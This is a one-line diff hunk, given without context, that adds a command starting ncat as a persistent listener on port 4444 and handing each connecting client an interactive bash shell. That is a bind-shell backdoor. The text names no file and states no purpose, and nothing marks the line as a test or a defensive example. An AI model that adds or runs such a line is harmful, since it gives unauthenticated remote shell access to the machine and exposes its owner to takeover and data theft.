@@ -1,0 +1,1 @@
+ncat -lk 4444 --sh-exec 'bash -i'
